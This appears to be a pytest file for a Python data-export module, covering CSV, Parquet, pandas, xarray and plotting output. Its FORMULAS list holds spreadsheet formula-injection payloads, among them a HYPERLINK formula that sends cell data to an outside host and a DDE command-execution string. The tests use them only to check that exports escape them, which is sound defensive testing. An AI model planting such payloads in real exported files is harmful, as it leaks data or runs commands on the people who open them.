"""Exports of rows: CSV, Parquet, data frames, datasets."""

from __future__ import annotations

import csv
import io
import re
import sys
from contextlib import closing
from datetime import UTC, datetime
from math import inf

import numpy as np
import pandas as pd
import pyarrow.parquet
import pytest

from rigrunner.api.errors import MissingPackageError, UsageError
from rigrunner_fleet.archive import Rows, index, open_archive, query
from unit.rigrunner_fleet.archive.helpers_archive import result_document, store_run

START = datetime(2026, 3, 1, 12, 0, 0, 1000, tzinfo=UTC)
SMALL = Rows(
    "runs",
    {"run_id": str, "started_utc": datetime, "rig": str, "torque_nm": float, "n": int, "ok": bool},
    (
        ('a,b\n"c"', START, "é", 0.1 + 0.2, 1, True),
        (None, None, None, None, None, None),
        ("d", START, "f", inf, 2**40, False),
    ),
)  # fmt: skip


@pytest.fixture
def archive(runs):
    store_run(runs, "one", inputs={"specimen": "A"})
    points = result_document()["points"][:1]
    store_run(runs, "two", result_document(0.8, points=points), inputs={"specimen": "B"})
    with closing(open_archive(runs)) as opened:
        index(opened, [runs])
    return runs


def test_csv_reads_back_to_the_same_numbers(tmp_path):
    text = SMALL.to_csv(tmp_path / "rows.csv")
    assert (tmp_path / "rows.csv").read_bytes() == text.encode()
    with (tmp_path / "rows.csv").open(encoding="utf-8", newline="") as file:
        header, first, blank, last = csv.reader(file)
    assert header == list(SMALL.columns)
    assert first[:3] == ['a,b\n"c"', "2026-03-01T12:00:00.001Z", "é"]
    assert float(first[3]) == 0.1 + 0.2
    assert first[4:] == ["1", "true"]
    assert blank == [""] * 6
    assert last[3:] == ["inf", str(2**40), "false"]


FORMULAS = [
    '=HYPERLINK("http://example.org?"&A1)',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "one\r=1",
    "=\r\n=1",
    "harmless;=1+1",
    "two\n=1+1",
    "\N{FULLWIDTH EQUALS SIGN}1",
]
HARMLESS = ["SN-17", "a = b", "-0.5", "+1e-3", "5 - 3", "", "'quoted", "2026-03-01", "a@b.org"]


def one_column(texts):
    return Rows("runs", {"specimen": str}, tuple((text,) for text in texts))


@pytest.mark.parametrize("text", FORMULAS)
def test_spreadsheet_formulas_are_escaped(text):
    ((_,), (shown,)) = csv.reader(io.StringIO(one_column([text]).to_csv(), newline=""))
    assert shown.replace("'", "") == text.replace("'", "").replace("\r\n", "\n").replace("\r", "\n")
    for part in re.split(r"[;\n]", shown):
        assert part[:1] not in set("=+-@\t\r\N{FULLWIDTH EQUALS SIGN}")


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_texts_are_unchanged(text):
    assert one_column([text]).to_csv() == one_column([text]).to_csv(raw=True)


def test_raw_csv_keeps_formulas():
    for text in FORMULAS:
        assert text.replace('"', '""') in one_column([text]).to_csv(raw=True)


def test_negative_numbers_are_not_escaped():
    rows = Rows("points", {"torque_nm": float}, ((-0.5,),))
    assert rows.to_csv() == "torque_nm\n-0.5\n"


def test_parquet_reads_back_to_the_same_values(tmp_path):
    SMALL.to_parquet(tmp_path / "rows.parquet")
    table = pyarrow.parquet.read_table(tmp_path / "rows.parquet")
    assert [tuple(row.values()) for row in table.to_pylist()] == [
        tuple(row.values()) for row in SMALL
    ]


def test_empty_table_has_the_same_column_types(tmp_path):
    Rows("runs", SMALL.columns, ()).to_parquet(tmp_path / "none.parquet")
    SMALL.to_parquet(tmp_path / "some.parquet")
    read = pyarrow.parquet.read_schema
    assert read(tmp_path / "none.parquet") == read(tmp_path / "some.parquet")
    assert len(Rows("runs", SMALL.columns, ()).to_pandas()) == 0


def test_a_data_frame_has_times_and_numbers():
    frame = SMALL.to_pandas()
    assert frame["started_utc"].dtype == pd.DatetimeTZDtype("us", "UTC")
    assert frame["started_utc"][0] == START
    assert frame["torque_nm"].dtype == np.float64
    assert np.isnan(frame["torque_nm"][1])
    assert frame["n"].tolist() == [1, None, 2**40]


def test_points_become_a_dataset_of_run_and_point(archive):
    dataset = query("points", runs=archive).to_xarray()
    assert dict(dataset.sizes) == {"run": 2, "point": 2}
    assert dataset["specimen"].dims == ("run",)
    torque = dataset["torque_nm"].sel(run="one").to_numpy()
    assert torque == pytest.approx([0.73, 0.74])
    assert np.isnan(dataset["torque_nm"].sel(run="two", point=2))
    assert dataset["started_utc"].dtype.kind == "M"


def test_runs_become_a_dataset_of_rows(archive):
    dataset = query(runs=archive).to_xarray()
    assert dataset["torque_nm"].dims == ("row",)
    assert dataset["torque_nm"].to_numpy() == pytest.approx([0.72, 0.8])


def test_duplicate_runs_make_no_dataset(archive):
    points = query("points", runs=archive)
    twice = Rows("points", points.columns, points.values * 2)  # noqa: PD011  (no data frame)
    with pytest.raises(UsageError, match="more than once"):
        twice.to_xarray()


@pytest.mark.usefixtures("drawn_figures")
def test_a_plot_has_a_series_for_each_value(archive):
    figure = query(runs=archive).plot(by="specimen").figure
    assert [text.get_text() for text in figure.legends[0].get_texts()] == ["A", "B"]
    (axes,) = figure.axes
    assert axes.get_ylabel() == "torque / N·m"
    assert axes.get_title(loc="left") == "runs, by specimen"
    lines = [container.lines[0].get_ydata() for container in axes.containers]
    assert [list(line) for line in lines] == [[0.72], [0.8]]


def test_plot_of_unknown_column_is_refused():
    with pytest.raises(UsageError, match="no column 'torque'") as caught:
        SMALL.plot("torque")
    assert "torque_nm" in caught.value.hint


def test_missing_packages_are_named(monkeypatch, tmp_path):
    monkeypatch.setitem(sys.modules, "pandas", None)
    monkeypatch.setitem(sys.modules, "pyarrow", None)
    for call in (SMALL.to_pandas, lambda: SMALL.to_parquet(tmp_path / "a.parquet")):
        with pytest.raises(MissingPackageError) as caught:
            call()
        assert "rigrunner[export]" in caught.value.hint


def test_unwritable_file_is_reported(tmp_path):
    for call in (SMALL.to_csv, SMALL.to_parquet):
        with pytest.raises(UsageError, match="cannot be written"):
            call(tmp_path / "nowhere" / "rows")
